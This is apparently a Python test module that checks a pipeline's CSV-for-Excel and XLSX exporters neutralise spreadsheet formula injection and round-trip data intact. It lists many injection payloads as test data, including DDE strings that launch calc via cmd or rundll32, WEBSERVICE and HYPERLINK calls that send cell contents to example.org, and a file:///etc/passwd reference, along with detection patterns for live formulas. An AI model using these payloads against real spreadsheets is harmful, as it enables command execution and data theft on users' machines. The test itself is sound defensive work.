"""Texts that a spreadsheet would run: in `csv-excel` and `xlsx` none is a formula, and all are read back."""

from __future__ import annotations

import csv
import itertools
import re
from pathlib import Path
from zipfile import ZipFile

from conftest import Project
from openpyxl import load_workbook

from pipeline import load
from pipeline.release.export import csv_excel, xlsx
from pipeline.release.export.run import export

from .promise import Found, Promise, Scale

_FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", "=HYPERLINK(\"http://example.org/?\"&A1,\"x\")",
    "=WEBSERVICE(\"http://example.org/\")", "=IMPORTXML(\"http://example.org\",\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@A1", "|calc",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A", "%0A=1+1", "=1+1\";=1+1", "=1+1,=1+1", "＝1+1", "＋1", "－1", "＠A1",
    "−1+1", "='file:///etc/passwd'#$passwd.A1", "=IMAGE(\"http://example.org/a\")", "=LET(x,1,x)", "{=1+1}",
    "=1+1\n=2+2", "R1C1", "=R[1]C[1]", "=A1", "=[book.xlsx]Sheet1!A1", "=1=1",
)  # fmt: skip
_BEFORE = (
    "", " ", "\t", "\r", "\n", "\u00a0", "\ufeff", "\u200b", "\u2028", "\u3000", '"', "'", '""', "\"'", ",", ";",
    "\x0b", "  \t ", "“", "\u202e",
)  # fmt: skip
_AFTER = ("", "\n", ' "', ",x", "\nAnd so on.")
_OTHERS = (
    "007", "1e5", "1/2", "5 May 2020", "TRUE", "WAHR", "NA", "#REF!", "#N/A", "'tis", "''", "12:30", "$5", "5 %",
    "(5)", "1,000.00", "_x003D_1+1", "_x0041_", "]]>", "<f>1+1</f>", "</t></is></c><c><f>1+1</f></c>", "&#61;1+1",
    "a\rb", "a\r\nb", "\U0001f600=1",
)  # fmt: skip
_LIVE = re.compile(r"[\s\x00-\x20\u00a0\ufeff\u200b]*[\"“]*\s*[=+\-@|%＝＋－＠−\t\r]")
"""What Excel, LibreOffice and Google Sheets take for a formula, or for the start of one, in a cell of CSV."""


def _payloads() -> list[str]:
    made = [f"{before}{formula}{after}" for before, formula, after in itertools.product(_BEFORE, _FORMULAS, _AFTER)]
    return [*dict.fromkeys([*made, *_OTHERS])]


def _cells(scale: Scale, folder: Path) -> Found:
    payloads = _payloads()[:: max(1, round(1 / max(scale.share, 0.05)))]
    project = _released(folder, payloads)
    answers = load(engine="arrow", out=project.out).sort_by("id")
    failures = []
    export("csv-excel", folder / "records.csv", out=project.out)
    export("xlsx", folder / "records.xlsx", out=project.out)
    failures += _live_in_csv(folder / "records.csv")
    failures += _live_in_workbook(folder / "records.xlsx")

    for name, read in (("records.csv", csv_excel.read), ("records.xlsx", xlsx.read)):
        again = read(folder / name).sort_by("id")
        failures += [
            f"{name}: column {column} is not as it was"
            for column in answers.column_names
            if column in again.column_names and again.column(column).to_pylist() != answers.column(column).to_pylist()
        ]
    ran = f"{answers.num_rows:,} answers that a spreadsheet would run, of {len(payloads):,} payloads"
    figure = "0 live in `csv-excel` and `xlsx`; both read back without loss"
    return Found(ran, f"{len(failures)} failures" if failures else figure, tuple(failures))


def _released(folder: Path, payloads: list[str]) -> Project:
    """Release each payload as an answer, and one that asks."""
    project = Project(folder / "project")
    project.raw.mkdir(parents=True)
    rows = "".join(
        f"{_quoted(f'What is in cell {_named(number)}?')},{_quoted(payload)},https://{_named(number)}.example.org/\n"
        for number, payload in enumerate(payloads)
    )
    (project.raw / "rows.csv").write_text(f"question,answer,source\n{rows}", encoding="utf-8", newline="")
    project.curate()
    return project


def _named(number: int) -> str:
    return "".join(chr(ord("a") + int(digit)) for digit in str(number))


def _quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def _live_in_csv(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return [f"{path.name}: {cell[:80]!r}" for row in csv.reader(file) for cell in row if _LIVE.match(cell)]


def _live_in_workbook(path: Path) -> list[str]:
    book = load_workbook(path)
    cells = (cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None)
    found = [
        f"{path.name}: {cell.value!r} is of type {cell.data_type}"
        for cell in cells
        if cell.data_type not in ("s", "inlineStr")
    ]
    with ZipFile(path) as parts:
        found += [f"{path.name}: {name} holds a formula" for name in parts.namelist() if _RUNS.search(parts.read(name))]
    return found


_RUNS = re.compile(rb"<f[ >]|<hyperlink|externalLink|TargetMode|ddeLink|<definedName")
"""What in the parts of a workbook is a formula, or leads out of it."""
PROMISE = Promise("cells", "No text is a formula in csv-excel or xlsx, and both read back without loss", _cells)
